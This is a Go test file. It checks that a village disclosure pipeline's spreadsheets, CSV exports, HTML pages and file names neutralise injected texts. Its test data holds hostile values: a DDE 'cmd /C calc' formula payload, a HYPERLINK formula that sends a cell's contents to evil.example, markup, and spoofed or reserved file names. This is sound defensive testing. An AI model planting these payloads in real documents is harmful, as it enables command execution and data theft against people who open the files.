package pipelines_test

import (
	"archive/zip"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html/template"
	"io"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/text/unicode/norm"

	"tongbao/internal/filing"
	"tongbao/internal/grid"
	"tongbao/internal/sheet"
	"tongbao/pipelines"
)

// Texts that try to be formulas, markup or paths travel through everything
// that is written, and come out as texts.

// injectionCells are the cells of the list by what they are to be.
func injectionCells(t *testing.T, as string) (all []string) {
	t.Helper()
	for _, r := range readCSV(t, "testdata/injection/injection_cells.csv")[1:] {
		if strings.Contains(r[1], as) {
			all = append(all, r[0])
		}
	}
	if len(all) == 0 {
		t.Fatalf("no cells as %q", as)
	}
	return all
}

// naughty are all the texts: the list's, and the Big List of Naughty Strings.
func naughty(t *testing.T) []string {
	t.Helper()
	data, err := os.ReadFile("testdata/injection/blns.json")
	if err != nil {
		t.Fatal(err)
	}
	var list []string
	if err := json.Unmarshal(data, &list); err != nil || len(list) < 500 {
		t.Fatalf("%d naughty strings, %v", len(list), err)
	}
	all := injectionCells(t, "")
	for _, first := range formulaFirst {
		all = append(all, string(first)+"1+cmd|' /C calc'!A0")
	}
	return append(all, list...)
}

// unseen are the characters that take no room: text is kept without them.
var unseen = &unicode.RangeTable{R16: []unicode.Range16{
	{0x00AD, 0x00AD, 1}, {0x061C, 0x061C, 1}, {0x180E, 0x180E, 1}, {0x200B, 0x200F, 1}, {0x202A, 0x202E, 1}, {0x2060, 0x2064, 1}, {0x2066, 0x2069, 1}, {0xFEFF, 0xFEFF, 1},
}}

// asKept is a text as the reader keeps it.
func asKept(text string) string {
	return strings.TrimSpace(norm.NFC.String(strings.Map(func(r rune) rune {
		if unicode.Is(unseen, r) {
			return -1
		}
		return r
	}, text)))
}

// asInWorkbook is a text as a workbook shows it, which cannot hold control
// characters.
func asInWorkbook(text string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r < 0x20 && r != '\t' && r != '\n' && r != '\r':
			return 0x2400 + r
		case r == 0xFFFE || r == 0xFFFF:
			return unicode.ReplacementChar
		}
		return r
	}, text)
}

// openNaughty takes the texts in: each as the topic of a consultation, and as
// a day that cannot be read.
func openNaughty(t *testing.T, texts []string) *pipelines.Env {
	t.Helper()
	e := openEnv(t, makeWorkspace(t, smallDistrict))
	var topics, days strings.Builder
	a, b := csv.NewWriter(&topics), csv.NewWriter(&days)
	a.Write([]string{"村（社区）", "协商编号", "议题", "协商日期", "备注", texts[0]})
	b.Write([]string{"村（社区）", "公开事项", "所属期", "公布日期", "备注"})
	for i, text := range texts {
		a.Write([]string{"松涧村", fmt.Sprintf("T%03d", i), text, "2026-05-20", text, text})
		b.Write([]string{"松涧村", "财务收支情况", "2026-05", text, text})
	}
	a.Flush()
	b.Flush()
	folder := filepath.Join(e.WS.Inbox(), "青禾镇")
	writeFile(t, filepath.Join(folder, "协商.csv"), topics.String())
	writeFile(t, filepath.Join(folder, "公开.csv"), days.String())
	writeFile(t, filepath.Join(folder, "好.csv"), "村（社区）,公开事项,所属期,公布日期\n竹溪村,财务收支情况,2026-05,2026-06-10\n")
	ingest(t, e, pipelines.IntakeRequest{ReceivedAt: received("2026-06-20")})
	build(t, e, "2026Q2", "")
	return e
}

func TestInjectionInExports(t *testing.T) {
	texts := naughty(t)
	e := openNaughty(t, texts)
	contract := contractOf(t)
	topics, compared := contract["consultations"], 0
	no, topic := slices.Index(namesOf(topics), "topic_no"), slices.Index(namesOf(topics), "topic")
	for format, rows := range readFormats(t, e, "consultations", topics) {
		got := map[string]string{}
		for _, r := range rows {
			got[r[no]] = r[topic]
		}
		for i, text := range texts {
			want := asKept(text)
			if want == "" {
				continue // a blank topic
			}
			if format == pipelines.FormatXLSX {
				want = asInWorkbook(want)
			}
			// A line end is one character in XML, and for encoding/csv.
			same := strings.NewReplacer("\r\n", "\n", "\r", "\n")
			if id := fmt.Sprintf("T%03d", i); same.Replace(got[id]) != same.Replace(want) {
				t.Errorf("%s %s: %q came out as %q", format, id, want, got[id])
			}
			compared++
		}
	}
	if compared < 4*500 {
		t.Errorf("only %d texts compared", compared)
	}
	at := slices.Index(namesOf(contract["quarantine"]), "text")
	for format, rows := range readFormats(t, e, "quarantine", contract["quarantine"]) {
		got := map[string]bool{}
		for _, r := range rows {
			got[r[at]] = true
		}
		for _, text := range injectionCells(t, "") {
			if !got[text] {
				t.Errorf("quarantine as %s: %q is not there", format, text)
			}
		}
	}
	for _, table := range pipelines.Exportable() {
		rows := export(t, e, table)
		for _, r := range rows[1:] {
			for i, c := range contract[table] {
				if c.Type == "text" && r[i] != "" && strings.ContainsRune(formulaFirst, []rune(r[i])[0]) {
					t.Errorf("%s.%s: %q would be run", table, c.Name, r[i])
				}
			}
		}
	}
}

// formulaElement is how a worksheet's XML holds a formula.
var formulaElement = regexp.MustCompile(`<f[ >/]`)

// TestInjectionInAnswers: what goes back to the township holds the texts, and
// none of them runs.
func TestInjectionInAnswers(t *testing.T) {
	texts := naughty(t)
	e := openNaughty(t, texts)
	workbooks, pages, shown := 0, 0, map[string]bool{}
	for _, path := range walk(t, e.WS.Outbox()) {
		switch filepath.Ext(path) {
		case ".xlsx":
			workbooks++
			noFormula(t, path)
			book, err := sheet.Open(path, sheet.DefaultLimits)
			if err != nil {
				t.Fatal(err)
			}
			for i := range book.Sheets() {
				err := book.Read(i, func(row grid.Row) error {
					for _, c := range row.Cells {
						if c.Kind == grid.Formula || c.Kind == grid.Error {
							t.Errorf("%s: %q is no text", path, c.Text)
						}
						shown[c.Text] = true
					}
					return nil
				})
				if err != nil {
					t.Error(err)
				}
			}
			book.Close()
		case ".html":
			pages++
		case ".csv":
			for _, r := range readCSV(t, path) {
				for _, text := range r {
					if text != "" && strings.ContainsRune(formulaFirst, []rune(text)[0]) {
						t.Errorf("%s: %q would be run", path, text)
					}
				}
			}
		}
	}
	if workbooks == 0 || pages == 0 {
		t.Fatalf("%d workbooks, %d pages", workbooks, pages)
	}
	for _, text := range texts {
		if want := asInWorkbook(filing.MaskPersonal(text)); strings.TrimSpace(want) != "" && !shown[want] && !shown[strings.ReplaceAll(want, "\r", "\n")] {
			t.Errorf("%q is in no workbook", want)
		}
	}
	benign := openNaughty(t, slices.Repeat([]string{"无害"}, len(texts)))
	samePages(t, walk(t, benign.WS.Outbox()), walk(t, e.WS.Outbox()), injectionCells(t, ""))
}

// noFormula looks for formulas in the XML of a workbook.
func noFormula(t *testing.T, path string) {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, m := range z.File {
		if !strings.Contains(m.Name, "worksheets/") || !strings.HasSuffix(m.Name, ".xml") {
			continue
		}
		r, err := m.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		if at := formulaElement.FindIndex(data); at != nil {
			t.Errorf("%s!%s has a formula: %s", path, m.Name, data[at[0]:min(len(data), at[1]+80)])
		}
	}
}

var (
	tag       = regexp.MustCompile(`(?s)<[^>]*>`)
	attribute = regexp.MustCompile(`\s([a-zA-Z_:@][-\w:.@]*)\s*=`)
	quotedIn  = regexp.MustCompile(`"[^"]*"`)
)

// markup are the kinds of tags of a page with their attributes, and how many
// scripts it has.
func markup(page string) (kinds map[string]bool, scripts int) {
	kinds = map[string]bool{}
	for _, found := range tag.FindAllString(page, -1) {
		bare := quotedIn.ReplaceAllString(found, `""`)
		name := strings.Fields(strings.Trim(bare, "<>") + " ")
		if len(name) == 0 {
			kinds["empty"] = true
			continue
		}
		kinds[name[0]] = true
		for _, a := range attribute.FindAllStringSubmatch(bare, -1) {
			kinds[name[0]+" "+a[1]] = true
		}
	}
	return kinds, strings.Count(strings.ToLower(page), "<script")
}

// samePages compares the markup of pages with that of pages that say nothing
// hostile, and looks for the texts as they are escaped.
func samePages(t *testing.T, benign, hostile []string, texts []string) {
	t.Helper()
	html := func(paths []string) map[string]string {
		pages := map[string]string{}
		for _, path := range paths {
			if filepath.Ext(path) == ".html" {
				data, err := os.ReadFile(path)
				if err != nil {
					t.Fatal(err)
				}
				pages[filepath.Base(path)] = string(data)
			}
		}
		return pages
	}
	plain, all := html(benign), ""
	pages := html(hostile)
	if len(pages) == 0 || len(pages) != len(plain) {
		t.Fatalf("%d pages, and %d without hostile texts", len(pages), len(plain))
	}
	allowed, scriptsOf := map[string]bool{}, map[string]int{}
	for name, page := range plain {
		kinds, n := markup(page)
		maps.Copy(allowed, kinds)
		scriptsOf[name] = n
	}
	for name, page := range pages {
		all += page
		scripts := scriptsOf[name]
		found, n := markup(page)
		if n != scripts {
			t.Errorf("%s has %d scripts, want %d", name, n, scripts)
		}
		for kind := range found {
			if !allowed[kind] {
				t.Errorf("%s has the markup %q", name, kind)
			}
		}
	}
	escape := template.Must(template.New("").Parse("{{.}}"))
	for _, text := range texts {
		var escaped strings.Builder
		if err := escape.Execute(&escaped, asKept(text)); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(all, escaped.String()) {
			t.Errorf("%q is on no page", text)
		}
		if strings.ContainsAny(text, "<>") && strings.Contains(all, text) {
			t.Errorf("%q is on a page as it is", text)
		}
	}
}

// TestInjectionInNames: the names of villages, townships and the district are
// texts of others, too.
func TestInjectionInNames(t *testing.T) {
	names := append(injectionCells(t, "village"), injectionCells(t, "attribute")...)
	names = append(names, injectionCells(t, "inline JSON")...)
	names = append(names, `=HYPERLINK("http://evil.example/?x="&A1,"点此")`, "@SUM(1)", "＋1+1", "{{.}}", "${x}", "`a`")
	towns := append(injectionCells(t, "file name"), "=1+1", "<b>镇</b>", "nul.txt", "COM1", "a:b|c?*<>", "尾点.", "\u202egpj.镇")
	open := func(village, town func(i int) string) *pipelines.Env {
		registry := registryHeader
		for i := range towns {
			for k := range names {
				quote := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
				registry += fmt.Sprintf("9901011%02d,%s,镇,9901011%02d2%02d,%s,村,320,900,,2020-01-01,\n", i, quote(town(i)), i, k, quote(village(k)))
			}
		}
		e := openEnv(t, makeWorkspace(t, map[string]string{"registry.csv": registry, "catalogue.csv": smallDistrict["catalogue.csv"]}))
		for i := range towns {
			filed := "村（社区）,公开事项,所属期,公布日期,备注\n"
			for k := range names {
				filed += fmt.Sprintf("9901011%02d2%02d,财务收支情况,2026-0%d,2026-06-1%d,\n", i, k, k%2+4, (i+k)%9)
			}
			writeFile(t, filepath.Join(e.WS.Inbox(), fmt.Sprintf("9901011%02d", i), "报.csv"), filed+"不存在,财务收支情况,2026-05,2026-06-10,\n")
		}
		ingest(t, e, pipelines.IntakeRequest{ReceivedAt: received("2026-06-20")})
		build(t, e, "2026Q2", "")
		if _, err := e.Report(t.Context(), pipelines.Reports(), "", filepath.Join(e.WS.Dir, "out")); err != nil {
			t.Fatal(err)
		}
		return e
	}
	benign := open(func(i int) string { return fmt.Sprintf("无害%d村", i) }, func(i int) string { return fmt.Sprintf("无害%d镇", i) })
	e := open(func(i int) string { return names[i] }, func(i int) string { return towns[i] })

	out := func(e *pipelines.Env) string { return filepath.Join(e.WS.Dir, "out") }
	samePages(t, walk(t, out(benign)), walk(t, out(e)), append(names, towns[2:]...))
	if a, b := len(walk(t, benign.WS.Outbox())), len(walk(t, e.WS.Outbox())); a != b {
		t.Errorf("%d answers, %d to harmless names", b, a)
	}
	for _, path := range append(walk(t, e.WS.Outbox()), walk(t, out(e))...) {
		rel, err := filepath.Rel(e.WS.Dir, path)
		if err != nil {
			t.Fatal(err)
		}
		for _, part := range strings.Split(rel, "/") {
			bare, _, _ := strings.Cut(strings.ToUpper(part), ".")
			if strings.ContainsAny(part, "<>:\"|?*\\\u202e") || strings.HasSuffix(part, ".") || strings.HasPrefix(part, ".") ||
				slices.Contains([]string{"CON", "NUL", "COM1"}, bare) {
				t.Errorf("%s cannot be a file everywhere", rel)
			}
		}
		if filepath.Ext(path) == ".xlsx" {
			noFormula(t, path)
		}
	}
	contract := contractOf(t)
	for _, table := range pipelines.Exportable() {
		for _, r := range export(t, e, table)[1:] {
			for i, c := range contract[table] {
				if c.Type == "text" && r[i] != "" && strings.ContainsRune(formulaFirst, []rune(r[i])[0]) {
					t.Errorf("%s.%s: %q would be run", table, c.Name, r[i])
				}
			}
		}
	}
}
